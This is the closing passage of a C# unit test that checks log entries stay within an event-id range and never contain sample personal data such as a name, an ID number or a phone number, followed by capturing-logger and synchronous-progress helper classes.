        Assert.Contains(logger.Entries, e => e.Level == Microsoft.Extensions.Logging.LogLevel.Error);
        foreach (var (level, id, message) in logger.Entries)
        {
            Assert.InRange(id, 1000, 1999);
            foreach (var secret in new[] { "张三丰", "11010519491231002X", "13812345678", "建国路", "bad-id", "12345," })
                Assert.DoesNotContain(secret, message);
        }
    }

    private sealed class CapturingLogger : Microsoft.Extensions.Logging.ILogger
    {
        public List<(Microsoft.Extensions.Logging.LogLevel Level, int Id, string Message)> Entries { get; } = [];
        public IDisposable? BeginScope<TState>(TState state) where TState : notnull => null;
        public bool IsEnabled(Microsoft.Extensions.Logging.LogLevel logLevel) => true;
        public void Log<TState>(Microsoft.Extensions.Logging.LogLevel logLevel, Microsoft.Extensions.Logging.EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter) =>
            Entries.Add((logLevel, eventId.Id, formatter(state, exception) + exception?.Message));
    }

    private sealed class SynchronousProgress(Action<LoadProgress> report) : IProgress<LoadProgress>
    {
        public void Report(LoadProgress value) => report(value);
    }
}
